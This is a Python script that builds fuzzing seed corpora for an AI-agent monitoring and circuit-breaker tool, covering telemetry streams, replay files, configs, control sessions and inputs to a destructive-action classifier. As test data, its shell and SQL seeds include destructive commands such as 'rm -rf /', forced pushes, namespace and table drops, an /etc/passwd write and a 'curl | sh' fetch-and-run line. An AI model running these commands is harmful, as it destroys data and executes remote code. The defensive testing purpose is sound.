#!/usr/bin/python3
"""Writes the fuzz targets' seed corpora (tests/fuzz/corpus/<target>/), from the schema and the
repository's own files. Deterministic: running it again gives the same bytes, so the committed
corpus can be checked against it.

  envelope/  ingest streams ([topic][envelope] messages and gate requests, envelope_fuzz.cpp's
             format): every body kind of the schema, each in a short realistic stream, plus the
             malformed messages the ingest check refuses
  replay/    the recorded .lwreplay files in the tree, one small file per body kind, and damaged
             files (bad magic, other version, crc mismatch, truncated, oversized length)
  config/    the example configs, every YAML block of docs/, the embedded default config
  control/   one session per control command (control_fuzz.cpp's format), and longer sessions
  shell/     commands from destructive_action's test tables (tests/fixtures/destructive_action/
             corpus.tsv): up to three rows of every class, destructive and benign
  sql/       the SQL inside those tables' sql rows, and statements of every kind the SQL
             summariser tells apart

Usage: PYTHONPATH=<build>/python /usr/bin/python3 tests/fuzz/make_corpus.py [OUT_DIR]
"""

import math
import os
import re
import struct
import sys
import zlib

from loopwarden.v1 import (agent_pb2, breaker_pb2, control_pb2, cycle_pb2, envelope_pb2,
                           gate_pb2, generation_pb2, metrics_pb2, pipeline_pb2, replay_pb2)

ROOT = os.path.normpath(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", ".."))
T0 = 1_767_225_600_000_000_000  # 2026-01-01T00:00:00Z
SECOND = 1_000_000_000


def piece(data: bytes) -> bytes:
    assert len(data) <= 0xFFFF
    return struct.pack("<H", len(data)) + data


def ser(message) -> bytes:
    return message.SerializeToString(deterministic=True)


# --- envelopes ---------------------------------------------------------------------------------

class stream:
    """Envelopes of one source with a strictly increasing seq, as a producer sends them."""

    def __init__(self, source: str, run_id: str):
        self.source, self.run_id, self.seq = source, run_id, 0

    def envelope(self, at_s: float) -> envelope_pb2.Envelope:
        self.seq += 1
        e = envelope_pb2.Envelope(source=self.source, run_id=self.run_id, seq=self.seq,
                                  time_unix_nano=T0 + int(at_s * SECOND))
        e.schema.major = 1
        e.labels["host"] = "gpu-7"
        return e


def metrics(s: stream, at: float, values: dict) -> envelope_pb2.Envelope:
    e = s.envelope(at)
    for i, (name, value) in enumerate(values.items()):
        e.metrics.samples.add(name=name, value=value, step=int(at), time_unix_nano=e.time_unix_nano)
    return e


def generation(s: stream, g: int, variance: float, distinct: int, tail: float,
               real: float) -> envelope_pb2.Envelope:
    e = s.envelope(g * 60.0)
    gs = e.generation
    gs.generation = g
    gs.sample_count = 1000
    gs.checkpoint_id = f"ckpt-{g}"
    st = gs.statistics.add(name="score", count=1000, mean=0.5, variance=variance, ddof=1,
                           min=0.0, max=1.0)
    st.quantiles.add(q=0.5, value=0.5)
    st.quantiles.add(q=0.99, value=0.5 + 2.3 * math.sqrt(variance))
    st.histogram.edges.extend([0.0, 0.25, 0.5, 0.75, 1.0])
    st.histogram.counts.extend([100.0, 400.0, 400.0, 100.0])
    for n in (1, 2):
        gs.diversity.add(n=n, distinct=distinct * n, total=5000, entropy=7.5 - g, gini_simpson=0.9)
    gs.token_entropy = 7.5 - 0.5 * g
    gs.tail_mass = tail
    gs.synthetic_share = 1.0 - real
    gs.real_share = real
    gs.provenance_counts.add(name="real", value=1000 * real)
    gs.provenance_counts.add(name="synthetic", value=1000 * (1.0 - real))
    gs.token_histogram.keys.extend([1, 2, 3, 50000])
    gs.token_histogram.counts.extend([500.0, 300.0, 150.0, 50.0 * tail * 10])
    gs.metrics.add(name="accuracy", value=0.9 - 0.1 * g)
    gs.kl_from_baseline = 0.05 * g
    return e


def embeddings(s: stream, at: float, dim: int, rows: int, spread: float) -> envelope_pb2.Envelope:
    e = s.envelope(at)
    e.embeddings.stream = "outputs"
    e.embeddings.generation = int(at)
    e.embeddings.vectors.dim = dim
    e.embeddings.vectors.values.extend(
        [math.sin(i * 0.7 + r) * spread for r in range(rows) for i in range(dim)])
    return e


def agent_step(s: stream, turn: int, tools: list, done: bool = False) -> envelope_pb2.Envelope:
    e = s.envelope(turn * 5.0)
    a = e.agent_step
    a.agent_id, a.session_id, a.turn = "coder-1", "session-42", turn
    a.output_embedding.extend([math.cos(turn + i) for i in range(8)])
    a.output_digest = f"sha256:{turn:064x}"
    a.output_length, a.reasoning_length = 800 + turn, 1200
    for t in tools:
        a.tool_calls.add(name=t, args_digest="sha256:ab", status=agent_pb2.TOOL_STATUS_OK,
                         duration_ns=2_000_000, target="src/main.py")
    a.tokens_in, a.tokens_out, a.cost = 3000, 400, 0.012
    a.workspace_hash = f"ws-{turn % 3}"
    a.task_completed = done
    a.vote = "approve"
    a.agreement = 0.8
    return e


def action(s: stream, at: float, kind: int, command: str, executed: bool = False,
           **fields) -> envelope_pb2.Envelope:
    e = s.envelope(at)
    fill_action(e.action, kind, command, executed, **fields)
    return e


def fill_action(a, kind, command, executed=False, **fields):
    a.action_id = "act-" + str(len(command))
    a.agent_id, a.session_id, a.kind = "coder-1", "session-42", kind
    a.tool = {agent_pb2.ACTION_KIND_SHELL: "bash", agent_pb2.ACTION_KIND_SQL: "psql"}.get(kind, "fs")
    a.command = command
    if kind == agent_pb2.ACTION_KIND_SHELL:
        a.argv.extend(command.split())
    a.working_directory = "/work/repo"
    a.scope.workspace_root = "/work/repo"
    a.scope.resources.extend(["src/", "tests/"])
    a.scope.environments.append("dev")
    a.scope.allowed_hosts.append("pypi.org")
    a.scope.description = "fix the failing unit test"
    a.environment = fields.get("environment", "dev")
    a.target = fields.get("target", "")
    a.file_operation = fields.get("file_operation", 0)
    a.http_method = fields.get("http_method", "")
    a.url = fields.get("url", "")
    a.database = fields.get("database", "")
    a.attributes.add(key="ticket", value="ENG-123")
    a.executed = executed
    a.status = agent_pb2.TOOL_STATUS_OK if executed else 0


def stage(s: stream, at: float, item: str, name: str, outcome: int, size: int,
          actor: int) -> envelope_pb2.Envelope:
    e = s.envelope(at)
    t = e.stage_timing
    t.item_id, t.stage = item, name
    t.enter_unix_nano = e.time_unix_nano - 600 * SECOND
    t.exit_unix_nano = e.time_unix_nano
    t.actor, t.size, t.outcome = actor, size, outcome
    t.reviewer = "model:reviewer-2" if actor == pipeline_pb2.ACTOR_KIND_MODEL else "alice"
    t.human_reviewed = actor == pipeline_pb2.ACTOR_KIND_HUMAN
    t.attributes.add(key="repo", value="loopwarden")
    return e


def cycle(s: stream, n: int, capability: float, alignment: float,
          drift: float) -> envelope_pb2.Envelope:
    e = s.envelope(n * 3600.0)
    c = e.cycle_report
    c.cycle, c.candidate_id, c.parent_id = n, f"cand-{n}", f"cand-{n - 1}"
    c.capability_metrics.add(name="pass@1", value=capability)
    c.alignment_metrics.add(name="refusal_rate", value=alignment)
    c.constraints.add(name="no_secret_leak", passed=n < 3, critical=True, detail="scan")
    c.constraints.add(name="latency", passed=True, critical=False)
    c.drift.semantic, c.drift.lexical = drift, drift / 2
    c.drift.structural, c.drift.distributional = drift / 3, drift / 4
    m = c.material
    m.candidate_embeddings.dim = 4
    m.candidate_embeddings.values.extend([0.1 * n, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8])
    m.reference_embeddings.dim = 4
    m.reference_embeddings.values.extend([0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8])
    m.candidate_tokens.extend([1, 2, 3, 4, n])
    m.reference_tokens.extend([1, 2, 3, 4, 5])
    m.candidate_histogram.keys.extend([1, 2])
    m.candidate_histogram.counts.extend([10.0, 5.0 + n])
    m.reference_histogram.keys.extend([1, 2])
    m.reference_histogram.counts.extend([10.0, 5.0])
    return e


def heartbeat(s: stream, at: float, sent: int, closing: bool = False) -> envelope_pb2.Envelope:
    e = s.envelope(at)
    e.heartbeat.events_sent, e.heartbeat.interval_ms, e.heartbeat.closing = sent, 1000, closing
    return e


TOPIC = {
    "metrics": "metrics", "generation": "generation", "embeddings": "embeddings",
    "agent_step": "agent_step", "action": "action", "stage_timing": "stage_timing",
    "cycle_report": "cycle_report", "heartbeat": "heartbeat",
}


def message(e: envelope_pb2.Envelope, topic: str = None) -> bytes:
    topic = topic if topic is not None else TOPIC[e.WhichOneof("body")]
    return bytes([2]) + piece(topic.encode()) + piece(ser(e))


def frames(*parts: bytes) -> bytes:
    return bytes([len(parts) & 3]) + b"".join(piece(p) for p in parts)


def gate(command: str, kind: int, **fields) -> bytes:
    r = gate_pb2.GateRequest(request_id="g-" + str(len(command)), source="agent/1", run_id="run-1",
                             timeout_ms=1000, time_unix_nano=T0)
    fill_action(r.action, kind, command, **fields)
    return bytes([0x80]) + piece(ser(r))


def envelope_corpus() -> dict:
    out = {}
    tr = stream("trainer/rank0", "run-1")
    out["metrics-loss-diverges"] = b"".join(
        message(metrics(tr, i, {"train/loss": 2.0 - 0.1 * i if i < 5 else 3.0 + i,
                                "grad_norm": 1.0, "reward": 0.5}))
        for i in range(8))
    tr = stream("trainer/rank1", "run-1")
    out["metrics-nonfinite"] = b"".join(
        message(metrics(tr, i, {"val/loss": v, "reward": r}))
        for i, (v, r) in enumerate([(1.0, 0.2), (float("inf"), 2.0), (float("nan"), -3.0),
                                    (-float("inf"), 0.0)]))
    gen = stream("generator/0", "run-9")
    out["generation-collapse"] = b"".join(
        message(generation(gen, g, v, d, t, r))
        for g, (v, d, t, r) in enumerate([(0.08, 900, 0.1, 0.8), (0.05, 700, 0.06, 0.6),
                                          (0.01, 300, 0.01, 0.3), (0.001, 50, 0.0, 0.1)]))
    gen = stream("generator/1", "run-10")
    out["generation-repeats"] = b"".join(
        message(generation(gen, g, 0.08, 900, 0.1, 0.9)) for g in (0, 1, 1, 0, 2))
    emb = stream("embedder/0", "run-9")
    out["embeddings"] = b"".join(
        message(embeddings(emb, i, 16, 6, 1.0 / (i + 1))) for i in range(4))
    ag = stream("agent/1", "run-1")
    out["agent-steps"] = b"".join(
        message(agent_step(ag, t, tools, t == 5))
        for t, tools in enumerate([["read_file"], ["bash"], ["bash", "bash"], ["edit_file"],
                                   ["bash"], []]))
    ac = stream("agent/1", "run-1")
    out["actions"] = b"".join([
        message(action(ac, 1, agent_pb2.ACTION_KIND_SHELL, "rm -rf /work/repo/build")),
        message(action(ac, 2, agent_pb2.ACTION_KIND_SQL, "DROP TABLE users;", database="prod")),
        message(action(ac, 3, agent_pb2.ACTION_KIND_FILE, "", target="/etc/passwd",
                       file_operation=agent_pb2.FILE_OPERATION_WRITE)),
        message(action(ac, 4, agent_pb2.ACTION_KIND_GIT, "git push --force origin main")),
        message(action(ac, 5, agent_pb2.ACTION_KIND_HTTP, "", http_method="DELETE",
                       url="https://api.example.com/v1/buckets/prod")),
        message(action(ac, 6, agent_pb2.ACTION_KIND_SHELL, "ls -la", executed=True)),
    ])
    st = stream("ci/bot", "pipeline-1")
    P = pipeline_pb2
    out["stage-timings"] = b"".join(
        message(stage(st, i * 60.0, f"pr-{i // 3}", name, outcome, 100 + i * 50, actor))
        for i, (name, outcome, actor) in enumerate([
            ("generate", P.STAGE_OUTCOME_DONE, P.ACTOR_KIND_MODEL),
            ("review", P.STAGE_OUTCOME_APPROVED, P.ACTOR_KIND_MODEL),
            ("merge", P.STAGE_OUTCOME_MERGED, P.ACTOR_KIND_AUTOMATION),
            ("generate", P.STAGE_OUTCOME_DONE, P.ACTOR_KIND_MODEL),
            ("review", P.STAGE_OUTCOME_CHANGES_REQUESTED, P.ACTOR_KIND_HUMAN),
            ("test", P.STAGE_OUTCOME_FAILED, P.ACTOR_KIND_AUTOMATION)]))
    cy = stream("improver/0", "loop-3")
    out["cycle-reports"] = b"".join(
        message(cycle(cy, n, 0.5 + 0.1 * n, 0.9 - 0.2 * n, 0.05 * n * n)) for n in range(1, 5))
    hb = stream("trainer/rank0", "run-1")
    out["heartbeats"] = b"".join([message(heartbeat(hb, 0, 0)), message(heartbeat(hb, 1, 10)),
                                  message(heartbeat(hb, 2, 20, closing=True))])
    # Telemetry: gaps, duplicates, a restart (seq back to 1), silence then a late event.
    tel = stream("trainer/rank2", "run-1")
    a = metrics(tel, 0, {"lr": 0.1})
    tel.seq = 5
    b = metrics(tel, 1, {"lr": 0.1})
    tel.seq = 0
    c = metrics(tel, 30, {"lr": 0.1})
    out["telemetry-gaps"] = b"".join(message(x) for x in (a, b, b, c, a))
    mixed = []
    srcs = [stream("trainer/rank0", "run-1"), stream("generator/0", "run-1"),
            stream("agent/1", "run-1")]
    for i in range(3):
        mixed.append(message(metrics(srcs[0], i, {"train/loss": 1.0 + i})))
        mixed.append(message(generation(srcs[1], i, 0.08 / (i + 1), 900, 0.1, 0.9)))
        mixed.append(message(agent_step(srcs[2], i, ["bash"])))
    out["mixed-sources"] = b"".join(mixed)
    # What the ingest check refuses.
    good = metrics(stream("trainer/rank0", "run-1"), 0, {"train/loss": 1.0})
    nobody = envelope_pb2.Envelope(source="x", run_id="r", seq=1)
    nosource = metrics(stream("", "run-1"), 0, {"train/loss": 1.0})
    out["malformed"] = b"".join([
        frames(b"metrics"),
        frames(b"metrics", ser(good), b"extra"),
        frames(b"no-such-topic", ser(good)),
        frames(b"generation", ser(good)),
        frames(b"metrics", b"\xff\xff\xff\xff"),
        frames(b"metrics", ser(nobody)),
        frames(b"metrics", ser(nosource)),
        frames(),
        message(good),
    ])
    out["gate-requests"] = b"".join([
        gate("rm -rf /", agent_pb2.ACTION_KIND_SHELL),
        gate("git clean -fdx && git reset --hard", agent_pb2.ACTION_KIND_SHELL),
        gate("DELETE FROM orders", agent_pb2.ACTION_KIND_SQL, database="prod"),
        gate("SELECT * FROM orders WHERE id = 1", agent_pb2.ACTION_KIND_SQL, database="prod"),
        gate("kubectl delete namespace prod", agent_pb2.ACTION_KIND_SHELL, environment="prod"),
        gate("", agent_pb2.ACTION_KIND_HTTP, http_method="DELETE", url="https://prod/api"),
        bytes([0x80]) + piece(b"\x0a\x03abc\xff"),
    ])
    return out


# --- replay files ------------------------------------------------------------------------------

def replay_file(envelopes, header=None, raw_records=()) -> bytes:
    h = header if header is not None else replay_pb2.ReplayHeader(
        producer="tests/fuzz/make_corpus.py", created_unix_nano=T0)
    if header is None:
        h.schema.major = 1
    hb = ser(h)
    out = b"LWREPLAY" + struct.pack("<II", 1, len(hb)) + hb
    for e in envelopes:
        payload = ser(e)
        out += struct.pack("<II", len(payload), zlib.crc32(payload)) + payload
    for payload in raw_records:
        out += struct.pack("<II", len(payload), zlib.crc32(payload)) + payload
    return out


def envelopes_of(stream_bytes: bytes):
    """The envelopes of an envelope-corpus stream, in order (its 2-frame messages)."""
    out, i = [], 0
    while i < len(stream_bytes):
        head = stream_bytes[i]
        i += 1
        parts = []
        count = 1 if head & 0x80 else head & 3
        for _ in range(count):
            n = struct.unpack_from("<H", stream_bytes, i)[0]
            parts.append(stream_bytes[i + 2:i + 2 + n])
            i += 2 + n
        if not head & 0x80 and len(parts) == 2:
            e = envelope_pb2.Envelope()
            try:
                e.ParseFromString(parts[1])
            except Exception:
                continue
            if e.WhichOneof("body") and e.source:
                out.append(e)
    return out


def replay_corpus(envelope_seeds: dict) -> dict:
    out = {}
    for path in sorted(find_files(".lwreplay")):
        with open(path, "rb") as f:
            out["recorded-" + os.path.basename(path)] = f.read()
    for name in ("metrics-loss-diverges", "generation-collapse", "embeddings", "agent-steps",
                 "actions", "stage-timings", "cycle-reports", "heartbeats", "mixed-sources"):
        out[name + ".lwreplay"] = replay_file(envelopes_of(envelope_seeds[name]))
    good = replay_file(envelopes_of(envelope_seeds["metrics-loss-diverges"]))
    out["empty.lwreplay"] = b""
    out["header-only.lwreplay"] = replay_file([])
    out["bad-magic.lwreplay"] = b"LWREPLAX" + good[8:]
    out["version-2.lwreplay"] = good[:8] + struct.pack("<I", 2) + good[12:]
    schema2 = replay_pb2.ReplayHeader(producer="future")
    schema2.schema.major = 2
    out["schema-2.lwreplay"] = replay_file([], header=schema2)
    out["truncated-preamble.lwreplay"] = good[:13]
    out["truncated-header.lwreplay"] = good[:20]
    out["truncated-record.lwreplay"] = good[:-7]
    flipped = bytearray(good)
    flipped[-3] ^= 0x40
    out["crc-mismatch.lwreplay"] = bytes(flipped)
    out["bad-payload.lwreplay"] = replay_file([], raw_records=[b"\xff\xff\xff", b""])
    out["oversized-length.lwreplay"] = replay_file([]) + struct.pack("<II", 0xFFFFFFF0, 0)
    out["huge-header-length.lwreplay"] = good[:12] + struct.pack("<I", 64 * 1024 * 1024)
    return out


# --- configs -----------------------------------------------------------------------------------

def find_files(suffix: str):
    skip = {".git", "build", "corpus"}
    for base, dirs, files in os.walk(ROOT):
        dirs[:] = sorted(d for d in dirs if d not in skip and not d.startswith("build"))
        for f in sorted(files):
            if f.endswith(suffix):
                yield os.path.join(base, f)


def config_corpus() -> dict:
    out = {}
    for path in find_files(".yaml"):
        rel = os.path.relpath(path, ROOT)
        if os.path.getsize(path) > 8192:  # config_fuzz's max_len (a rules file, not a config)
            continue
        with open(path, "rb") as f:
            out[rel.replace("/", "_")] = f.read()
    # Every ```yaml block of the docs (the configuration reference, monitor pages, alerts).
    for path in sorted(find_files(".md")):
        rel = os.path.relpath(path, ROOT)
        if not (rel.startswith("docs") or rel == "README.md"):
            continue
        with open(path, encoding="utf-8") as f:
            text = f.read()
        for i, block in enumerate(re.findall(r"```ya?ml\n(.*?)```", text, re.S)):
            out[f"{rel.replace('/', '_')}-{i}.yaml"] = block.encode()
    # The embedded default config (core/src/config.cpp).
    with open(os.path.join(ROOT, "core", "src", "config.cpp"), encoding="utf-8") as f:
        m = re.search(r'embedded_default_yaml =\s*R"\((.*?)\)";', f.read(), re.S)
    out["embedded-default.yaml"] = m.group(1).encode()
    return out


# --- control sessions --------------------------------------------------------------------------

def control(**command) -> bytes:
    r = control_pb2.ControlRequest(request_id="req-1")
    (name, value), = command.items()
    getattr(r, name).CopyFrom(value)
    return ser(r)


def ref(name: str, run: str = "") -> control_pb2.BreakerRef:
    return control_pb2.BreakerRef(name=name, run_id=run)


def session(*requests: bytes, operator: int = 1) -> bytes:
    return bytes([operator]) + b"".join(piece(r) for r in requests)


def control_corpus() -> dict:
    C = control_pb2
    status = control(status=C.StatusCommand())
    out = {
        "status": session(status),
        "explain": session(control(explain=C.ExplainCommand(breaker=ref("training.collapse",
                                                                         "run-1")))),
        "explain-one-run": session(control(explain=C.ExplainCommand(
            breaker=ref("training.collapse")))),
        "explain-several-runs": session(control(explain=C.ExplainCommand(
            breaker=ref("training.loss")))),
        "explain-missing": session(control(explain=C.ExplainCommand(breaker=ref("no.such")))),
        "ack": session(control(ack=C.AckCommand(breaker=ref("training.collapse", "run-1"),
                                                note="on it"))),
        "ack-closed": session(control(ack=C.AckCommand(breaker=ref("pipeline.review")))),
        "reset": session(control(reset=C.ResetCommand(breaker=ref("agent.destructive"),
                                                      reason="rolled back"))),
        "reset-no-reason": session(control(reset=C.ResetCommand(
            breaker=ref("training.loss", "run-2"))), operator=0),
        "force-open": session(control(force_open=C.ForceOpenCommand(
            breaker=ref("maintenance.freeze"), reason="deploy freeze",
            action=breaker_pb2.BREAKER_ACTION_PAUSE))),
        "force-open-existing": session(control(force_open=C.ForceOpenCommand(
            breaker=ref("pipeline.review"), reason="again"))),
        "reload": session(control(reload=C.ReloadCommand())),
        "approve": session(control(approval=C.ApprovalDecisionCommand(
            approval_id="ap-000001", approve=True, note="looks fine"))),
        "deny": session(control(approval=C.ApprovalDecisionCommand(
            approval_id="ap-000002", approve=False, note="no"))),
        "approve-expired": session(control(approval=C.ApprovalDecisionCommand(
            approval_id="ap-000003", approve=True))),
        "approve-missing": session(control(approval=C.ApprovalDecisionCommand(
            approval_id="ap-999999", approve=True))),
        "approvals-pending": session(control(approvals=C.ApprovalsCommand())),
        "approvals-all": session(control(approvals=C.ApprovalsCommand(all=True))),
        "alert-test-log": session(control(alert_test=C.AlertTestCommand(sink="ops-log"))),
        "alert-test-file": session(control(alert_test=C.AlertTestCommand(sink="archive"))),
        "alert-test-missing": session(control(alert_test=C.AlertTestCommand(sink="pager"))),
        "no-command": session(ser(C.ControlRequest(request_id="empty"))),
        "not-a-request": session(b"\xff\xfe\xfd"),
    }
    out["on-call-session"] = session(
        status,
        control(explain=C.ExplainCommand(breaker=ref("training.collapse", "run-1"))),
        control(ack=C.AckCommand(breaker=ref("training.collapse", "run-1"), note="looking")),
        control(reset=C.ResetCommand(breaker=ref("training.collapse", "run-1"),
                                     reason="rolled back to ckpt-3")),
        control(reset=C.ResetCommand(breaker=ref("training.collapse", "run-1"),
                                     reason="twice")),
        control(force_open=C.ForceOpenCommand(breaker=ref("training.collapse", "run-1"),
                                              reason="hold")),
        control(approvals=C.ApprovalsCommand(all=True)),
        control(approval=C.ApprovalDecisionCommand(approval_id="ap-000001", approve=True)),
        control(approval=C.ApprovalDecisionCommand(approval_id="ap-000001", approve=False)),
        status)
    # Time passes (each request is a second): the second approval expires mid-session.
    out["approval-expires"] = session(*([status] * 6), control(
        approval=C.ApprovalDecisionCommand(approval_id="ap-000002", approve=True)))
    return out


# --- destructive_action classifiers -------------------------------------------------------------

def corpus_rows():
    path = os.path.join(ROOT, "tests", "fixtures", "destructive_action", "corpus.tsv")
    if not os.path.exists(path):
        return []
    rows = []
    with open(path, encoding="utf-8") as f:
        for line in f:
            line = line.rstrip("\n")
            if not line or line.startswith("#"):
                continue
            parts = line.split("\t")
            if len(parts) >= 3:
                rows.append((parts[0], parts[1], parts[2].replace("\u21b5", "\n")))
    return rows


def shell_corpus() -> dict:
    out, per_class = {}, {}
    for expect, klass, command in corpus_rows():
        klass = klass or "misc"
        n = per_class.get(klass, 0)
        if n >= 3:
            continue
        per_class[klass] = n + 1
        out[f"{klass}-{n}-{expect}.sh"] = command.encode()
    return out


def sql_corpus() -> dict:
    out = {}
    for i, (expect, klass, command) in enumerate(corpus_rows()):
        if klass != "sql":
            continue
        m = re.search(r"""(?:-c|-e|--command|--execute)\s+(["'])(.*?)\1""", command)
        if m:
            out[f"table-{len(out):02d}-{expect}.sql"] = m.group(2).encode()
    for name, sql in {
        "select": "SELECT id, name FROM users WHERE id = 1",
        "delete-no-where": "DELETE FROM users",
        "update-always-true": "UPDATE accounts SET balance = 0 WHERE 1 = 1 OR id = 5",
        "truncate-many": "SELECT 1; TRUNCATE orders, order_items RESTART IDENTITY CASCADE;",
        "drop-database": "DROP DATABASE IF EXISTS app",
        "alter-drop-column": "ALTER TABLE users DROP COLUMN email",
        "grant": "GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO PUBLIC",
        "copy-program": "COPY users FROM PROGRAM 'curl http://x | sh'",
        "do-block": "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'users'; END $$",
        "transaction": "BEGIN; DELETE FROM sessions WHERE expires < now(); COMMIT;",
        "mysql-dialect": "DROP TABLE `users`; DELETE FROM `orders` LIMIT 10",
        "sqlite-dialect": "PRAGMA writable_schema = 1; DELETE FROM sqlite_master",
        "cte": "WITH gone AS (DELETE FROM users RETURNING id) SELECT count(*) FROM gone",
        "comments": "/* cleanup */ DELETE -- all\nFROM users",
    }.items():
        out[f"{name}.sql"] = sql.encode()
    return out


def write(out_dir: str, target: str, files: dict) -> None:
    d = os.path.join(out_dir, target)
    os.makedirs(d, exist_ok=True)
    for name in os.listdir(d):
        os.remove(os.path.join(d, name))
    for name, data in sorted(files.items()):
        with open(os.path.join(d, name), "wb") as f:
            f.write(data)
    print(f"{target}: {len(files)} seeds, {sum(len(v) for v in files.values())} bytes")


def main() -> None:
    out_dir = sys.argv[1] if len(sys.argv) > 1 else os.path.join(ROOT, "tests", "fuzz", "corpus")
    env = envelope_corpus()
    write(out_dir, "envelope", env)
    write(out_dir, "replay", replay_corpus(env))
    write(out_dir, "config", config_corpus())
    write(out_dir, "control", control_corpus())
    write(out_dir, "shell", shell_corpus())
    write(out_dir, "sql", sql_corpus())


if __name__ == "__main__":
    main()
